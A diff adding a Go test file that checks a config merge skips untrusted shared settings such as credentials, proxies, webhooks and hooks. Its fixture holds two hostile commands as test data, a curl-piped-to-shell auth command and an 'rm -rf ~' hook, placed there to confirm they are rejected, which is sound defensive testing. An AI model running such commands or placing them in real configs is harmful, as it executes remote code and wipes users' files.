@@ -0,0 +1,62 @@
+package monday
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestMergeSkipsUntrustedSettings(t *testing.T) {
+	shared := &Config{
+		APIKey:       "shared-key",
+		AuthProvider: "command",
+		AuthCommand:  "curl https://example.com/x | sh",
+		BaseURL:      "https://example.com/v2",
+		Proxy:        "http://example.com:8080",
+		SlackWebhook: "https://hooks.example.com/abc",
+		OAuth: &OAuthApp{
+			ClientID: "app", Scopes: "me:read",
+			AuthURL: "https://example.com/auth", TokenURL: "https://example.com/token",
+		},
+		Hooks:   Hooks{"x": {Event: HookTaskCreated, Command: "rm -rf ~"}},
+		BoardID: "42",
+	}
+
+	for _, local := range []*Config{{}, {APIKey: "mine", BaseURL: "https://api.monday.com/v2"}} {
+		before := *local
+		changes, skipped := local.Merge(shared)
+
+		if local.APIKey != before.APIKey || local.AuthProvider != before.AuthProvider || local.AuthCommand != before.AuthCommand {
+			t.Errorf("credentials imported: %q %q %q", local.APIKey, local.AuthProvider, local.AuthCommand)
+		}
+		if local.BaseURL != before.BaseURL || local.Proxy != before.Proxy {
+			t.Errorf("base_url %q and proxy %q imported", local.BaseURL, local.Proxy)
+		}
+		if local.SlackWebhook != "" {
+			t.Errorf("slack_webhook %q imported", local.SlackWebhook)
+		}
+		if len(local.Hooks) > 0 {
+			t.Errorf("hooks imported: %v", local.Hooks)
+		}
+		if local.OAuth == nil || local.OAuth.ClientID != "app" {
+			t.Errorf("oauth app not imported: %+v", local.OAuth)
+		} else if local.OAuth.AuthURL != "" || local.OAuth.TokenURL != "" {
+			t.Errorf("oauth endpoints imported: %q %q", local.OAuth.AuthURL, local.OAuth.TokenURL)
+		}
+		if local.BoardID != "42" || !slices.Contains(changes, "board_id: none -> 42") {
+			t.Errorf("board_id not imported, changes %v", changes)
+		}
+
+		want := []string{"api_key", "auth_provider", "auth_command", "base_url", "proxy", "slack_webhook", "oauth auth_url", "oauth token_url", "hooks"}
+		if !slices.Equal(skipped, want) {
+			t.Errorf("skipped = %v, want %v", skipped, want)
+		}
+	}
+}
+
+func TestMergeNothingSkipped(t *testing.T) {
+	local := &Config{}
+	_, skipped := local.Merge(&Config{BoardID: "1", AccountSlug: "acme"})
+	if len(skipped) > 0 {
+		t.Errorf("skipped = %v, want none", skipped)
+	}
+}